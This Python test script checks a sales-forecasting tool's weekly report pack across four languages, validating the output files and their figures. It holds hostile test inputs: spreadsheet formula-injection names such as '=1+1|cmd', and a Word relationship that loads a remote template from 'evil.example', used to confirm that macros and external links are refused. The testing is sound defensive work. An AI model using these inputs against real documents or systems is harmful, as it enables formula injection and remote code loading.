#!/usr/bin/env python3
"""pack.py PERENNIAL SOURCE_ROOT: the weekly pack in four languages, read back by other programs and held against the desk's API.

Every file: valid for Microsoft's validator, no complaint of opc_lint, the same bytes when made again. Every figure: the API's. LibreOffice draws
each; nothing leaves a slide. With hostile names in the book."""
import csv
import json
import os
import re
import subprocess
import sys
import tempfile
import urllib.request
import zipfile
from decimal import ROUND_HALF_EVEN, Decimal
from xml.dom import minidom

try:
    import docx
    import openpyxl
except ImportError:
    print("python3-docx and python3-openpyxl are not here: the pack is not read back")
    sys.exit(77)

perennial, root = (os.path.realpath(a) for a in sys.argv[1:3])
WHO, PERIOD, DAY = "helen.brandt@palisade.example", "2026-Q4", "2026-11-22"
HOSTILE = ["=1+1|cmd", "+SUM(A1)", "-2", "@here", "_x0041_ Ltd", "<b>&\"'</b>", "]]> & Söhne", "名前 株式会社", "🚀 Rockets", "A" * 200, "tab\tend"]
fails = 0


def check(ok, what):
    global fails
    if not ok:
        fails += 1
        print("FAIL: " + what)


def run(*args, **more):
    done = subprocess.run(args, capture_output=True, text=True, **more)
    check(done.returncode == 0, "%s: %s%s" % (" ".join(args[:4]), done.stdout[-500:], done.stderr[-500:]))
    return done.stdout


def desk(*args):
    return run(perennial, "--db", "demo.db", *args)


def hostile_book():
    """New customers with names that programs trip over, among the largest of the quarter."""
    with open("hostile.csv", "w", newline="") as f:
        w = csv.writer(f)
        w.writerow("contract_number,line_number,end_user_account,owner,region,product,currency,start_date,end_date,net_amount".split(","))
        for i, name in enumerate(HOSTILE):
            w.writerow(["X%d" % i, 1, name, "Tom Okafor", "US", "Core-1", "USD", "2025-12-16", "2026-12-15", 400000 + i])
    desk("import", "contracts", "hostile.csv", "--yes")


def whole(v):
    return "{:,}".format(int(Decimal(v).quantize(Decimal(1), ROUND_HALF_EVEN))).replace("-", "\u2212")


def money(v):
    v = Decimal(v)
    return ("\u2212$" if v < 0 else "$") + whole(abs(v))


def head(v):
    v = Decimal(v)
    if v < 999500:
        return "$%sK" % whole(v / 1000) if v >= 1000 else money(v)
    digits = 2 if v < 9995000 else 1
    return "$%sM" % (v / 1000000).quantize(Decimal(10) ** -digits, ROUND_HALF_EVEN)


def rate(num, den):
    return "%s%%" % (Decimal(num) * 100 / Decimal(den)).quantize(Decimal("0.1"), ROUND_HALF_EVEN)


class Api:
    def __init__(self):
        token = desk("token", "add", WHO).split()[0]
        self.head = {"Authorization": "Bearer " + token}
        self.server = subprocess.Popen([perennial, "--db", "demo.db", "serve", "--listen", "127.0.0.1:0"], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        self.base = re.search(r"http://\S+?/", self.server.stdout.readline()).group() + "api/v1/"

    def get(self, path):
        return json.load(urllib.request.urlopen(urllib.request.Request(self.base + path, headers=self.head)))

    def close(self):
        self.server.terminate()
        self.server.wait()


def figures_of(api):
    """What the desk says: key -> exact number as a decimal, or (numerator, denominator)."""
    forecast = api.get("forecast?period=" + PERIOD)["nodes"]
    bridge = api.get("bridge?period=" + PERIOD)
    kpi = api.get("kpi?period=" + PERIOD)["total"]["kpis"]
    calls = api.get("calls?period=" + PERIOD)
    band = api.get("insight/forecast?period=" + PERIOD)["nodes"][0]["band"]
    f = {k: Decimal(forecast[0]["amount"][k]) for k in ("closed", "commit", "best_case", "pipeline")}
    f.update(target=Decimal(forecast[0]["target"]), gap=Decimal(forecast[0]["gap"]), call=Decimal(calls["managers_call"] or calls["called"]))
    f.update(expected=Decimal(band["p50"]), expected_low=Decimal(band["p10"]), expected_high=Decimal(band["p90"]))
    f.update(bridge_start=Decimal(bridge["start"]["amount"]), bridge_end=Decimal(bridge["end"]["amount"]))
    f.update({"bridge_" + k: Decimal(v["amount"]) for k, v in bridge["steps"].items() if v["renewals"]})
    rates = {k: (Decimal(kpi[k]["numerator"]), Decimal(kpi[k]["denominator"])) for k in (
        "on_time_to_date_rate_money", "gross_renewal_rate", "net_renewal_rate", "in_quarter_renewal_rate", "logo_renewal_rate")}
    return f, rates, [n for n in forecast if n["level"] == "region"]


def check_xlsx(path, f, rates):
    book = openpyxl.load_workbook(path, data_only=True)
    found = {}
    for name in book.defined_names.definedName:
        if name.name.startswith("_"):
            continue
        sheet, cell = next(iter(name.destinations))
        found[name.name] = book[sheet][cell.replace("$", "")].value
    for key, value in f.items():
        check(found.get(key) is not None and abs(Decimal(str(found[key])) - value) < Decimal("0.005"), "%s: %s is %s, the desk says %s" % (path, key, found.get(key), value))
    for key, (num, den) in rates.items():
        check(found.get(key) is not None and abs(found[key] - float(num / den)) < 1e-9, "%s: %s is %s, the desk says %s" % (path, key, found.get(key), num / den))
    seen = {str(c.value) for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "s"}
    for name in HOSTILE[:9]:
        check(name in seen, "%s: the customer %r is not in it as it is written" % (path, name))
    check(not any(c.data_type == "f" and "SUBTOTAL" not in str(c.value) for s in openpyxl.load_workbook(path).worksheets for row in s.iter_rows() for c in row),
          "%s: a name became a formula" % path)


def texts_docx(path):
    d = docx.Document(path)
    xml = minidom.parseString(zipfile.ZipFile(path).read("word/document.xml"))
    words = lambda node: "".join(t.firstChild.data for t in node.getElementsByTagName("w:t") if t.firstChild)  # python-docx leaves out what is linked
    rows = [[words(c) for c in r.getElementsByTagName("w:tc")] for r in xml.getElementsByTagName("w:tr")]
    flat = [words(p) for p in xml.getElementsByTagName("w:p")]
    check(len(rows) == sum(len(t.rows) for t in d.tables), "%s: another program sees other tables" % path)
    check(any(p.style.name == "Heading 1" for p in d.paragraphs), "%s: no headings" % path)
    check(d.core_properties.author == "Perennial", "%s: no properties" % path)
    check("w:tblHeader" in zipfile.ZipFile(path).read("word/document.xml").decode(), "%s: header rows do not repeat" % path)
    return rows, flat


def texts_pptx(path):
    z, flat = zipfile.ZipFile(path), []
    for part in sorted(n for n in z.namelist() if re.match(r"ppt/slides/slide\d+\.xml$", n)):
        for p in minidom.parseString(z.read(part)).getElementsByTagName("a:p"):
            flat.append("".join(t.firstChild.data for t in p.getElementsByTagName("a:t") if t.firstChild))
    return flat


def check_story(path, flat, f, rates, regions):
    for key in ("closed", "commit", "best_case", "pipeline", "target", "gap", "call", "expected"):
        check(head(f[key]) in flat, "%s: %s, %s, is not in it" % (path, key, head(f[key])))
    for n in regions:
        for key in ("closed", "commit", "best_case", "pipeline"):
            check(money(n["amount"][key]) in flat, "%s: %s of %s is not in it" % (path, key, n["name"]))
    for key in ("on_time_to_date_rate_money", "gross_renewal_rate", "net_renewal_rate"):
        check(rate(*rates[key]) in flat, "%s: %s, %s, is not in it" % (path, key, rate(*rates[key])))


def check_csv(path, f, rates):
    with open(path, newline="", encoding="utf-8-sig") as file:
        rows = list(csv.DictReader(file))
    found = {r["item"]: r for r in rows}
    for key, value in f.items():
        check(key in found and Decimal(found[key]["value"]) == value, "%s: %s is %s, the desk says %s" % (path, key, found.get(key, {}).get("value"), value))
    for key, (num, den) in rates.items():
        check(key in found and abs(Decimal(found[key]["value"]) - num / den) < Decimal("0.000001"), "%s: %s" % (path, key))
    check(all(r["address"].startswith("https://desk.example/") for r in rows if r["address"]), "%s: an address without the desk's own" % path)


def draw(path):
    """What LibreOffice makes of it. Gives pages, and words outside of them."""
    if subprocess.run(["which", "soffice", "pdftotext"], capture_output=True).returncode:
        print("soffice or pdftotext is not here: nothing is drawn")
        return None
    run("soffice", "--headless", "-env:UserInstallation=file://" + os.path.abspath("lo"), "--convert-to", "pdf", "--outdir", "drawn", path, timeout=120)
    out = run("pdftotext", "-bbox", "drawn/" + os.path.basename(path).rsplit(".", 1)[0] + ".pdf", "-")
    pages = re.split(r"<page ", out)[1:]
    for page in pages:
        wide, high = (float(x) for x in re.search(r'width="([\d.]+)" height="([\d.]+)"', page).groups())
        for x, y, word in re.findall(r'xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)<', page):
            check(float(x) <= wide + 1 and float(y) <= high + 1, "%s: %r leaves the page" % (path, word))
    return len(pages)


def rezip(source, target, change, extra=()):
    with zipfile.ZipFile(source) as a, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as b:
        for name in a.namelist():
            b.writestr(name, change(name, a.read(name)))
        for name, data in extra:
            b.writestr(name, data)


def check_templates(f, made):
    """A company's own files: names become figures, also when a program cut them in pieces; what is unknown, a macro and a link are refused."""
    fill = ("--db", "demo.db", "report", "weekly", "--period", PERIOD, "--as", WHO, "--out", "filled", "--template")
    d = docx.Document()
    d.add_heading("{{lands.heading}}", 1)
    p = d.add_paragraph("Closed {{clo")
    p.add_run("sed}} of {{target.full}},").bold = True
    p.add_run(" by {{organization}}")
    d.add_table(1, 1).cell(0, 0).text = "{{headline}}"
    d.save("own.docx")
    out = run(perennial, *fill, "own.docx").strip()
    flat = texts_docx_plain(out)
    check("Closed %s of %s, by Palisade Networks" % (head(f["closed"]), money(f["target"])) in flat, "the template's sentence is %s" % flat)
    check(any(t.startswith("Q4 2026 has") for t in flat) and not any("{{" in t for t in flat), "names are left in %s" % flat)
    check(json.loads(run(root + "/node_modules/.bin/ooxml-validator", out))["ok"], "the filled brief is not valid")

    book = openpyxl.Workbook()
    book.active.append(["Closed", "{{closed}}", "=B1*2", "so far {{closed}}"])
    book.save("own.xlsx")
    out = run(perennial, *fill, "own.xlsx").strip()
    row = next(openpyxl.load_workbook(out).active.iter_rows(values_only=True))
    check(abs(Decimal(str(row[1])) - f["closed"]) < Decimal("0.005") and row[2] == "=B1*2" and row[3] == "so far " + head(f["closed"]), "the workbook's row is %s" % (row,))

    rezip(made["pptx"], "own.pptx", lambda n, b: re.sub(rb"<a:t>[^<]*</a:t>", b"<a:t>{{second}}</a:t>", b, count=1) if n == "ppt/slides/slide1.xml" else b)
    out = run(perennial, *fill, "own.pptx").strip()
    check(texts_pptx(out)[0].startswith("In 8 of 10"), "the slide says %s" % texts_pptx(out)[0])

    relation = b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
    bad = docx.Document()
    bad.add_paragraph("{{nothing.like.it}} and {{closed.often}}")
    bad.save("unknown.docx")
    rezip("own.docx", "macro.docx", lambda n, b: b, [("word/vbaProject.bin", b"x")])
    rezip("own.docx", "link.docx", lambda n, b: b.replace(b"</Relationships>", relation + b"</Relationships>") if n == "word/_rels/document.xml.rels" else b)
    open("text.docx", "w").write("no package")
    with open("large.docx", "wb") as large:
        large.truncate(21 << 20)
    for name, want in (("unknown.docx", "{{nothing.like.it}}, {{closed.often}}"), ("macro.docx", "macro"), ("link.docx", "reaches out"), ("text.docx", "damaged"),
                       ("large.docx", "20 MB"), ("none.docx", "no such template"), ("own.odt", "is a .docx")):
        done = subprocess.run([perennial, *fill[:-3], "--out", "refused", "--template", name], capture_output=True, text=True)
        check(done.returncode == 1 and want in done.stderr, "%s: %d %s" % (name, done.returncode, done.stderr))
    check(not os.listdir("refused"), "something was written from a template that was refused")

    os.makedirs("folder")
    os.replace("own.docx", "folder/weekly.pt.docx")
    os.replace("unknown.docx", "folder/weekly.docx")
    run(perennial, "--db", "demo.db", "config", "set", "report_templates", os.path.abspath("folder"))
    ours = run(perennial, *fill[:-3], "--formats", "docx,pptx", "--language", "pt", "--out", "folder").split()
    check(any(t.startswith("Closed ") and "{{" not in t for t in texts_docx_plain(ours[0])), "the folder's brief for pt is not taken")
    check(len(texts_pptx(ours[1])) > 1, "where the folder has no slides, ours are not made")
    done = subprocess.run([perennial, *fill[:-3], "--formats", "docx", "--out", "refused"], capture_output=True, text=True)
    check(done.returncode == 1 and "weekly.docx: " in done.stderr and "{{nothing.like.it}}" in done.stderr and not os.listdir("refused"), "a folder's template that does not fit: %s" % done.stderr)
    run(perennial, "--db", "demo.db", "config", "set", "report_templates", "")


def check_quiet():
    """Nothing moved, nothing is stuck: two pages. And an empty store has its pack, too."""
    with open("quiet.csv", "w", newline="") as f:
        w = csv.writer(f)
        w.writerow("contract_number,line_number,end_user_account,owner,region,product,currency,start_date,end_date,net_amount".split(","))
        for i in range(60):
            month = i % 12 + 1
            w.writerow(["Q%d" % i, 1, "Customer %02d" % i, "Rep %d" % (i % 4), ("East", "West")[i % 2], "Core", "USD", "2025-%02d-05" % month, "2026-%02d-04" % month, 20000 + i * 500])
    run(perennial, "--db", "quiet.db", "import", "contracts", "quiet.csv", "--yes")
    made = run(perennial, "--db", "quiet.db", "report", "weekly", "--period", PERIOD, "--out", "quiet", "--formats", "docx").strip()
    pages = draw(made)
    check(pages in (None, 2), "the brief of a quiet week has %s pages" % pages)
    run(perennial, "--db", "empty.db", "migrate")
    for p in run(perennial, "--db", "empty.db", "report", "weekly", "--out", "empty", "--formats", "docx,pptx,xlsx").split():
        check(json.loads(run(root + "/node_modules/.bin/ooxml-validator", p))["ok"], "%s of an empty store is not valid" % p)


def texts_docx_plain(path):
    xml = minidom.parseString(zipfile.ZipFile(path).read("word/document.xml"))
    return ["".join(t.firstChild.data for t in p.getElementsByTagName("w:t") if t.firstChild) for p in xml.getElementsByTagName("w:p")]


def main():
    os.chdir(tempfile.mkdtemp())
    run(perennial, "--db", "demo.db", "demo", "--lines", "3000", "--seed", "7", "--today", DAY)
    hostile_book()
    api = Api()
    try:
        f, rates, regions = figures_of(api)
    finally:
        api.close()
    for language in ("en", "es", "pt", "fr"):
        args = ("report", "weekly", "--period", PERIOD, "--as", WHO, "--language", language, "--public-url", "https://desk.example")
        made = desk(*args, "--out", language).split()
        again = desk(*args, "--out", language + "-again").split()
        check(sorted(p.rsplit(".", 1)[1] for p in made) == ["csv", "docx", "html", "pptx", "xlsx"], "%s: not every format: %s" % (language, made))
        for a, b in zip(made, again):
            check(open(a, "rb").read() == open(b, "rb").read(), "%s: made again, other bytes" % a)
        office = [p for p in made if p.endswith(("x"))]
        for p in office:
            said = json.loads(run(root + "/node_modules/.bin/ooxml-validator", p))
            check(said["ok"], "%s: %s" % (p, said["errors"][:3]))
        run(sys.executable, root + "/tests/report/opc_lint.py", *office)
        by = {p.rsplit(".", 1)[1]: p for p in made}
        check_xlsx(by["xlsx"], f, rates)
        check_csv(by["csv"], f, rates)
        if language == "en":
            rows, flat = texts_docx(by["docx"])
            check_story(by["docx"], flat, f, rates, regions)
            check(any(r[0] == regions[0]["name"] and r[1] == money(regions[0]["amount"]["closed"]) for r in rows), "the brief's table is not the desk's")
            check_story(by["pptx"], texts_pptx(by["pptx"]), f, rates, regions)
            page = open(by["html"], encoding="utf-8").read()
            check_story(by["html"], re.findall(r">([^<>]+)<", page), f, rates, regions)
            check_templates(f, by)
            check("<script" not in page and "src=" not in page, "the page for print loads something")
        slides = len([n for n in zipfile.ZipFile(by["pptx"]).namelist() if re.match(r"ppt/slides/slide\d+\.xml$", n)])
        drawn = draw(by["pptx"])
        check(slides <= 8 and drawn in (None, slides), "%s: %d slides, %s pages" % (by["pptx"], slides, drawn))
        if language == "en":
            draw(by["docx"])
    check_quiet()
    print("the pack agrees with the desk" if not fails else "%d failures" % fails)
    sys.exit(1 if fails else 0)


main()
